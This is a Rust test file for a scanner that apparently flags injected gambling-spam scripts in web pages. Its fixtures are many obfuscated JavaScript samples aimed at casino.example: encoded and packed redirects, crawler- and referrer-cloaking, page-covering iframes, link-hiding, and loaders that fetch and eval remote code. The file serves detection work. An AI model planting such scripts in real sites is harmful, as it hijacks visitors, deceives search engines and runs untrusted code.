//! What scripts put together, write and do.

use crate::world::{check_all, check_innocent};

/// A page with this script.
fn script(text: &str) -> String {
    format!("<p>x</p><script>{text}</script>")
}

#[track_caller]
fn check_scripts(cases: &[(&str, &str)]) {
    let pages: Vec<(String, &str)> = cases.iter().map(|(text, expected)| (script(text), *expected)).collect();
    check_all(&pages.iter().map(|(page, expected)| (page.as_str(), *expected)).collect::<Vec<_>>());
}

#[test]
fn j1_what_is_written() {
    check_scripts(&[
        ("document.write('<a href=\"//casi', 'no.example/\">x</a>')", "J1 anchor critical E2 [script-built]"),
        (
            "document.write('<a href=\"//casi'); document.write('no.example/\">x</a>')",
            "J1 anchor critical E2 [script-built]",
        ),
        (
            "document.writeln(\"<scr\"+\"ipt src='//cas\"+\"ino.example/a.js'></scr\"+\"ipt>\")",
            "J1 script-src critical E2 [encoded] [script-built] <js-concat>",
        ),
        (
            "document.getElementById('a').innerHTML = '<a href=\"http://casino' + '.example/\">x</a>'",
            "J1 anchor critical E2 [encoded] [script-built] <js-concat>",
        ),
        (
            "document.body.insertAdjacentHTML('beforeend', '<img src=//casino.example/a.png>')",
            "J1 script-string critical E1",
        ),
        (
            "var a = document.createElement('a'); a.href = 'http://casino' + '.example/'; document.body.appendChild(a)",
            "J1 script-string critical E2 [encoded] [script-built] <js-concat>",
        ),
        (
            "$('body').append('<a href=\"http://cas' + 'ino.example/\">x</a>')",
            "J1 anchor critical E2 [encoded] [script-built] <js-concat>",
        ),
        ("document.write('<p>visit casino.example today</p>')", "T1 script-string low E0"),
        (
            "document.write(unescape('%3Ca%20href%3D//casino.example/%3Ex%3C/a%3E'))",
            "J1 anchor critical E2 [script-built]",
        ),
    ]);
}

#[test]
fn j2_what_is_escaped() {
    check_scripts(&[
        ("location = '\\x68ttp://c\\x61sino.example/'", "J2 script-string critical E4 [encoded] <js-escape>"),
        (
            "window['\\x6cocation'] = 'http://' + 'casin' + 'o.example/'",
            "J2 script-string critical E4 [encoded] [script-built] <js-concat>",
        ),
        (
            "var u = String.fromCharCode(104,116,116,112,58,47,47,99,97,115,105,110,111,46,101,120,97,109,112,108,101,47); go(u)",
            "J2 script-string critical E2 [encoded] [script-built] <char-codes>",
        ),
        ("var u = 'cas' + 'ino.example'; go(u)", "J2 script-string critical E2 [encoded] [script-built] <js-concat>"),
        (
            "location.href = decodeURIComponent('http%3A%2F%2F%63asino.example/')",
            "J2 script-string critical E4 [encoded] <percent>",
        ),
    ]);
}

#[test]
fn j3_what_is_packed() {
    check_scripts(&[
        (
            "location = atob('aHR0cDovL2Nhc2luby5leGFtcGxlLw==')",
            "J3 script-string critical E4 [encoded] [script-built] <base64>",
        ),
        (
            "eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]||c}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0.1=\"2://3.4/\"',5,5,'window|location|http|casino|example'.split('|'),0,{}))",
            "J3 script-string critical E4 [encoded] [script-built] <js-concat> <packer>",
        ),
        (
            "document.write(atob('PGEgaHJlZj0vL2Nhc2luby5leGFtcGxlLz54PC9hPg=='))",
            "J1 anchor critical E2 [encoded] [script-built] <base64>",
        ),
        (
            "var s = '/elpmaxe.onisac//:ptth'.split('').reverse().join(''); load(s)",
            "J3 script-string critical E2 [encoded] [script-built] <reverse> <js-concat>",
        ),
        (
            "eval(atob('bG9jYXRpb249Ii8vY2FzaW5vLmV4YW1wbGUvIg=='))",
            "J3 script-string critical E4 [encoded] [script-built] <base64>",
        ),
    ]);
}

#[test]
fn j4_titles_for_engines() {
    check_scripts(&[
        (
            "if (/baiduspider|sogou/i.test(navigator.userAgent)) document.title = 'play at casino.example'",
            "J4 script-string critical E3 [agent-cloaked]",
        ),
        (
            "document.title = navigator.userAgent.indexOf('Baidu') < 0 ? 'school' : 'casino.example'",
            "J4 script-string critical E3 [agent-cloaked]",
        ),
        (
            "if (/baiduspider/i.test(navigator.userAgent)) document.getElementsByTagName('title')[0].innerText = 'casino.example'",
            "J4 script-string critical E3 [agent-cloaked]",
        ),
        (
            "if (/baiduspider/i.test(navigator.userAgent)) document.querySelector('title').textContent = 'casino.example'",
            "J4 script-string critical E3 [agent-cloaked]",
        ),
    ]);
    check_all(&[
        (
            "<title>casino.example slots</title><script>if(navigator.userAgent.toLowerCase().indexOf('baidu')==-1){document.title='School'}</script>",
            "J4 title critical E3 [agent-cloaked]",
        ),
        (
            "<title>casino.example slots</title><script>var t=document.querySelector('head>title');if(!/spider/.test(navigator.userAgent))t.firstChild.nodeValue='School'</script>",
            "J4 title critical E3 [agent-cloaked]",
        ),
        (
            "<title>casino.example slots</title><script>if(!/spider/.test(navigator.userAgent))document.head.querySelector('title').replaceWith(Object.assign(document.createElement('title'),{textContent:'School'}))</script>",
            "J4 title critical E3 [agent-cloaked]",
        ),
        ("<title>casino.example slots</title><script>document.title='School'</script>", "M6 title critical E0"),
        (
            "<title>casino.example slots</title><p>a</p><script>if(!/spider/.test(navigator.userAgent))document.querySelector('p').firstChild.nodeValue='School'</script>",
            "M6 title critical E0",
        ),
    ]);
}

#[test]
fn what_scripts_hide_is_hidden() {
    let link = "<style>.hd{display:none}</style><div id=q9 class=q9><a href=http://casino.example/>x</a></div>";
    let pages = [
        ("q9.style.cssText='position:absolute;left:-9999px'", "M9 anchor critical E2 [off-screen]"),
        ("document.getElementById('q9').setAttribute('style','opacity:0')", "M13 anchor critical E2 [transparent]"),
        ("document.getElementById('q9').className+=' hd'", "M7 anchor critical E2 [display-none]"),
        (
            "for(const d of document.querySelectorAll('div'))if(d.className=='q9')d.style.cssText+=';height:0;overflow:hidden'",
            "M10 anchor critical E2 [zero-size]",
        ),
        (
            "for(const a of document.querySelectorAll('a'))if(a.href.indexOf('casino')>-1)a.parentNode.style.display='none'",
            "M7 anchor critical E2 [display-none]",
        ),
        (
            "</script><style>.human #q9{display:none}</style><script>if(!/bot/i.test(navigator.userAgent))document.documentElement.className+=' human'",
            "J12 anchor critical E3 [agent-cloaked]",
        ),
        ("q9.style.cssText='color:red;left:20px'", "M1 anchor medium E1"),
        ("document.getElementById('q9').className+=' big'", "M1 anchor medium E1"),
        ("for(const d of document.querySelectorAll('div'))if(d.id=='q8')d.hidden=true", "M1 anchor medium E1"),
        (
            "</script><style>.human #q9{display:none}</style><script>document.documentElement.className+=' human-like'",
            "M1 anchor medium E1",
        ),
    ];
    let pages: Vec<(String, &str)> =
        pages.iter().map(|(text, told)| (format!("{link}<script>{text}</script>"), *told)).collect();
    check_all(&pages.iter().map(|(page, told)| (page.as_str(), *told)).collect::<Vec<_>>());
}

#[test]
fn what_a_script_hands_itself_leads_where_it_leads() {
    check_scripts(&[
        (
            "setTimeout(function(h){location.href='http://'+h+'.example'},800,'casino')",
            "J2 script-string critical E4 [encoded] [script-built] <js-concat>",
        ),
        (
            "var s=document.createElement('style');s.textContent='@import \"//casino.example/a.css\"';document.head.append(s)",
            "J1 script-string critical E1",
        ),
    ]);
}

#[test]
fn j7_who_has_another_screen_is_told_apart() {
    let gate = |asks: &str| script(&format!("if({asks})location.href='http://casino.example/'"));
    let j7 = "J7 script-string critical E1";
    let pages = [
        (gate("'ontouchstart' in window"), j7),
        (gate("'ontouchstart' in document.documentElement"), j7),
        (gate("window.ontouchstart!==undefined"), j7),
        (gate("screen.width+'x'+screen.height=='390x844'"), j7),
        (gate("document.hasFocus()"), "J7 script-string critical E2 [browser-only]"),
        (
            gate("['baidu','so'].filter(k=>document.referrer.indexOf(k)>0).length"),
            "J5 script-string critical E3 [referrer-cloaked]",
        ),
        (gate("document.getElementById('x')"), "M29 script-string critical E1"),
        (gate("['baidu','so'].filter(k=>k.length<9).length==2"), "M29 script-string critical E4"),
    ];
    check_all(&pages.iter().map(|(page, told)| (page.as_str(), *told)).collect::<Vec<_>>());
}

#[test]
fn what_begins_by_itself_sends_everybody() {
    let sends = "location='http://casino'+'.example/'";
    let told = |level: &str| format!("J2 handler critical {level} [encoded] [script-built] <js-concat>");
    let pages = [
        (format!("<body onpageshow=\"{sends}\">x"), told("E4")),
        (format!("<details open ontoggle=\"{sends}\"><summary>x</summary></details>"), told("E4")),
        (format!("<style onload=\"{sends}\">a{{}}</style>"), told("E4")),
        (format!("<marquee onstart=\"{sends}\">x</marquee>"), told("E4")),
        (format!("<input autofocus onfocus=\"{sends}\">"), told("E4")),
        (format!("<details ontoggle=\"{sends}\"><summary>x</summary></details>"), told("E2")),
        (format!("<input onfocus=\"{sends}\">"), told("E2")),
        (format!("<p onclick=\"{sends}\">x"), told("E2")),
    ];
    check_all(&pages.iter().map(|(page, told)| (page.as_str(), told.as_str())).collect::<Vec<_>>());
    check_scripts(&[
        (
            "var o={toString:function(){return 'http://casino'+'.example'}};location=o",
            "J2 script-string critical E4 [encoded] [script-built] <js-concat>",
        ),
        (
            "Reflect.apply(location.replace,location,['http://'+'casino'+'.example'])",
            "J2 script-string critical E4 [encoded] [script-built] <js-concat>",
        ),
        (
            "location=new URL('//casino'+'.example/x',location.href).href",
            "J2 script-string critical E4 [encoded] [script-built] <js-concat>",
        ),
    ]);
}

#[test]
fn what_a_script_tries_by_itself_is_a_mention() {
    check_scripts(&[
        (
            "const cases=[['http://casino.example/',true],['http://ok.example/',false]];cases.forEach(([u,b])=>console.assert(isBad(u)===b))",
            "T1 script-string info E0",
        ),
        (
            "const cases=[['http://casino.example/',true]];cases.forEach(([u,b])=>{if(b)location=u})",
            "M29 script-string critical E4",
        ),
    ]);
}

#[test]
fn j5_some_are_sent_away() {
    check_scripts(&[
        (
            "var r = document.referrer; if (r.indexOf('baidu.com') > 0 || r.indexOf('sogou') > 0) { location.replace('http://casino.example/') }",
            "J5 script-string critical E3 [referrer-cloaked]",
        ),
        (
            "if (document.referrer) { var a = document.createElement('a'); a.href = 'http://casino.example/'; a.click() }",
            "J5 script-string critical E3 [referrer-cloaked]",
        ),
        (
            "if (document.referrer) { var f = document.createElement('form'); f.action = 'http://casino.example/'; document.body.appendChild(f); f.submit() }",
            "J5 script-string critical E3 [referrer-cloaked]",
        ),
        (
            "if (/mobile/i.test(navigator.userAgent)) { var m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=http://casino.example/'; document.head.appendChild(m) }",
            "J5 script-string critical E3 [agent-cloaked] [mobile-cloaked]",
        ),
        (
            "if (/android|iphone/i.test(navigator.userAgent)) top.location.href = 'http://ca' + 'sino.example/m'",
            "J5 script-string critical E3 [encoded] [script-built] [agent-cloaked] [mobile-cloaked] <js-concat>",
        ),
        (
            "var u = navigator.userAgent; switch (true) { case /Mobile/.test(u): window.open('http://casino.example/', '_self') }",
            "J5 script-string critical E3 [agent-cloaked] [mobile-cloaked]",
        ),
        (
            "document.referrer.match(/google/) && (self.location = 'http://casino.example/')",
            "J5 script-string critical E3 [referrer-cloaked]",
        ),
        (
            "function go(u) { window.location.assign(u) } if (!document.referrer) {} else go('http://casino.example/')",
            "J5 script-string critical E3 [referrer-cloaked]",
        ),
        (
            "var cfg = {u: 'http://casino.example/'}; setTimeout(function () { if (document.referrer) location = cfg.u }, 500)",
            "J5 script-string critical E3 [referrer-cloaked]",
        ),
        (
            "setTimeout(\"if(/so/.test(document.referrer))location='http://casino.example/'\", 10)",
            "J5 script-string critical E3 [referrer-cloaked]",
        ),
    ]);
}

#[test]
fn j6_what_covers_the_page() {
    check_scripts(&[
        (
            "document.write('<frameset rows=\"100%,*\"><frame src=\"//casino.example/\"></frameset>')",
            "J6 script-string critical E1",
        ),
        (
            "document.write('<iframe src=\"//casino.example/\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\"></iframe>')",
            "J6 script-string critical E1",
        ),
        (
            "var f=document.createElement('iframe');f.src='//casino.example/';f.style.cssText='position:fixed;width:100%;height:100%';document.body.appendChild(f)",
            "J6 script-string critical E1",
        ),
        (
            "document.body.innerHTML='<div style=\"position:absolute;inset:0\"><iframe src=\"https://cas'+'ino.example/\" width=\"100%\" height=\"100%\"></iframe></div>'",
            "J6 iframe critical E2 [encoded] [script-built] <js-concat>",
        ),
        (
            "var f=document.createElement('iframe');f.src='//casino.example/';document.body.appendChild(f)",
            "J1 script-string critical E1",
        ),
    ]);
}

#[test]
fn j7_once_or_sometimes() {
    check_scripts(&[
        (
            "if (document.cookie.indexOf('seen') < 0) { document.cookie = 'seen=1'; location.href = 'http://casino.example/' }",
            "J7 script-string critical E2 [repeat-cloaked]",
        ),
        ("if (Math.random() < .1) window.open('http://casino.example/')", "J7 script-string critical E1"),
        (
            "var h = new Date().getHours(); if (h > 20 || h < 6) location = 'http://casino.example/'",
            "J7 script-string critical E1",
        ),
        (
            "if (!localStorage.getItem('x')) document.write('<script src=//casino.example/a.js><\\/script>')",
            "J7 script-string critical E2 [repeat-cloaked]",
        ),
        ("if (screen.width < 600) location = 'http://casino.example/'", "J7 script-string critical E1"),
    ]);
}

#[test]
fn j8_loaders() {
    check_scripts(&[
        (
            "var s = document.createElement('script'); s.src = '//casi' + 'no.example/a.js'; document.head.appendChild(s)",
            "J8 script-string critical E2 [encoded] [script-built] <js-concat>",
        ),
        ("fetch('https://casino.example/list').then(r => r.text()).then(eval)", "J8 script-string critical E1"),
        ("import('https://casino.example/m.js')", "J8 script-string critical E1"),
        ("new WebSocket('wss://casino.example/s')", "J8 script-string critical E1"),
        (
            "var x = new XMLHttpRequest(); x.open('GET', 'https://casino.example/x'); x.send()",
            "J8 script-string critical E1",
        ),
        ("$.getScript('//casino.example/a.js')", "J8 script-string critical E1"),
        ("new EventSource('https://casino.example/e')", "J8 script-string critical E1"),
        ("navigator.sendBeacon('https://casino.example/b', 'x')", "J8 script-string critical E1"),
        ("fetch('https://dns.example/resolve?type=TXT&name=x.casino.example')", "J8 url-parameter critical E1"),
    ]);
}

#[test]
fn j9_to_j12() {
    check_scripts(&[
        ("navigator.serviceWorker.register('https://casino.example/sw.js')", "J9 script-string critical E1"),
        (
            "history.pushState(null, '', '#'); window.onpopstate = function () { location = 'http://casino.example/' }",
            "J10 script-string critical E1",
        ),
        (
            "window.onbeforeunload = function () { window.open('http://casino.example/') }",
            "J10 script-string critical E1",
        ),
        ("if (window.opener) window.opener.location = 'http://casino.example/'", "J10 script-string critical E1"),
        (
            "if (/spider/i.test(navigator.userAgent)) document.body.innerHTML = '<a href=http://casino.example/>x</a>'",
            "J12 script-string critical E3 [agent-cloaked]",
        ),
        (
            "if (!/bot/i.test(navigator.userAgent)) document.getElementById('a').textContent = 'casino.example'",
            "J12 script-string critical E3 [agent-cloaked]",
        ),
    ]);
}

#[test]
fn other_places_of_scripts() {
    check_all(&[
        (
            "<script>location = 'hxxp://casino.example/'.replace('xx', 'tt')</script>",
            "M29 script-string critical E4 <defang>",
        ),
        ("<form onsubmit=\"this.action='//casino.example/'\">", "J1 handler critical E1"),
        (
            "<body onload=\"location='http://cas'+'ino.example/'\">",
            "J2 handler critical E4 [encoded] [script-built] <js-concat>",
        ),
        (
            "<a href=\"javascript:location='http://cas'+'ino.example/'\">x</a>",
            "J2 handler critical E2 [encoded] [script-built] <js-concat>",
        ),
        (
            "<svg><script>location='http://cas'+'ino.example/'</script></svg>",
            "J2 script-string critical E4 [encoded] [script-built] <js-concat>",
        ),
        (
            "<script src=\"data:text/javascript,location='http://cas'%2B'ino.example/'\"></script>",
            "J2 script-string critical E4 [encoded] [script-built] <percent> <js-concat>",
        ),
        (
            "<iframe srcdoc=\"<script>location='http://cas'+'ino.example/'</script>\"></iframe>",
            "J2 script-string critical E4 [encoded] [script-built] <js-concat>",
        ),
        (
            "<!-- <script>location='http://cas'+'ino.example/'</script> -->",
            "M19 comment low E0 [comment] [encoded] <js-concat>",
        ),
        (
            "<script>document.write('<scr'+'ipt>document.write(\"<a href=//cas\"+\"ino.example/>x</a>\")</scr'+'ipt>')</script>",
            "J1 anchor critical E2 [encoded] [script-built] <js-concat> <js-concat> <js-concat>",
        ),
        (
            "<script>/* casino.example */ location = atob('aHR0cDovL2Nhc2luby5leGFtcGxlLw==')</script>",
            "T1 script-string low E0; J3 script-string critical E4 [encoded] [script-built] <base64>",
        ),
        (
            "<script>var a='casino.example'; if(document.referrer)location='http://'+a+'/'</script>",
            "J5 script-string critical E3 [referrer-cloaked]",
        ),
    ]);
}

#[test]
fn what_the_language_has_besides_is_followed_too() {
    const MADE: &str = "J2 script-string critical E4 [encoded] [script-built] <js-concat>";
    check_scripts(&[
        ("function* g() { yield 'http://cas'; yield* ['ino.', 'example/'] } location = [...g()].join('')", MADE),
        ("for (const x of (function* () { yield 'http://cas'; yield 'ino.example/' })()) u += x; location = u", MADE),
        ("location = new URL('/x', 'http://cas' + 'ino.example/').href", MADE),
        ("location.host = 'cas' + 'ino.example'", MADE),
        (
            "location = new TextDecoder().decode(new Uint8Array([104,116,116,112,58,47,47,99,97,115,105,110,111,46,101,120,97,109,112,108,101,47]))",
            "J2 script-string critical E4 [encoded] [script-built] <char-codes>",
        ),
        ("opener.location.replace('http://casino.example/')", "J10 script-string critical E1"),
        (
            "document.write(document.referrer ? '<a href=//casino.example/>x</a>' : '')",
            "J12 script-string critical E3 [referrer-cloaked]",
        ),
    ]);
}

#[test]
fn a_name_that_a_script_does_nothing_with_is_a_mention() {
    const MENTION: &str = "T1 script-string low E0";
    check_scripts(&[
        (
            "no = ['casino.example']; if (no.includes(x)) { s = document.createElement('script'); s.src = '/a.js' }",
            MENTION,
        ),
        ("no = ['casino.example']; location.href = '/thanks/' + 1", MENTION),
        ("d = 'casino.example'; location = 'http://my' + d", MENTION),
        ("d = 'casino.example'; location = 'http://' + d + '.cn/'", MENTION),
        (
            "no = ['http://casino.example/']; if (no.indexOf(location.href) >= 0) location = '/warn'",
            "T1 script-string info E0",
        ),
        (
            "k = ['casino', 'example'].join('.'); o[k] = 1",
            "T1 script-string low E0 [encoded] [script-built] <js-concat>",
        ),
        (
            "d = 'casino.example'; s = document.createElement('script'); s.src = '/go.js'",
            "J8 script-string critical E1",
        ),
        // Where not all is known, what stands near tells.
        ("d = 'casino.example'; location = base + d", "M29 script-string critical E4"),
        ("m = new Map([['u', 'casino.example']]); location = 'http://' + m.get('u')", "M29 script-string critical E1"),
    ]);
}

#[test]
fn what_a_url_carries_is_told_as_in_a_link() {
    check_scripts(&[
        ("location.href = '/search?q=casino.example'", ""),
        ("fetch('/api/whois?domain=casino.example')", ""),
        ("location.href = '/go?url=http://casino.example/'", "N4 script-string high E1"),
        (
            "if (/baidu/.test(document.referrer)) location.href = '/go?url=http://casino.example/'",
            "J5 script-string critical E3 [referrer-cloaked]",
        ),
    ]);
}

#[test]
fn what_does_nothing_with_it_is_innocent() {
    check_innocent(&[
        "<script>location = 'https://school.example/?from=casino.example'</script>",
        "<script>location = 'https://school.example/?ref=' + 'casino' + '.example'</script>",
        "<script>var a = 'casino', b = '.exam'; f(a + b)</script>",
        "<script>f('xcasino' + '.example')</script>",
        "<script>f('my' + 'casino.example')</script>",
        "<script>f('casino.example' + '.org')</script>",
        "<script>f('http://casino.example' + '.org/a')</script>",
        "<script>f('casino' + '.example.org')</script>",
        "<script>document.write('<img src=\"//school.example/casino.' + 'example.png\">')</script>",
    ]);
}

#[test]
fn what_a_script_only_says_is_read_as_a_text_is() {
    let page = |script: &str| format!("<h1>School</h1><p>Term starts on Monday.</p><script>{script}</script>");
    for (script, expected) in [
        ("console.warn('casino.example is a phishing domain')", "T1 script-string info E0"),
        ("window.data = {title: '警方捣毁网络赌博网站casino.example'}", "T1 script-string info E0"),
        ("var adblock = {filters: ['||casino.example^']}", "T1 script-string info E0"),
        ("window.data = {title: 'casino.example官网，注册送彩金'}", "T1 script-string low E0"),
        ("window.data = {title: 'The club met casino.example'}", "T1 script-string low E0"),
    ] {
        check_all(&[(&page(script), expected)]);
    }
}
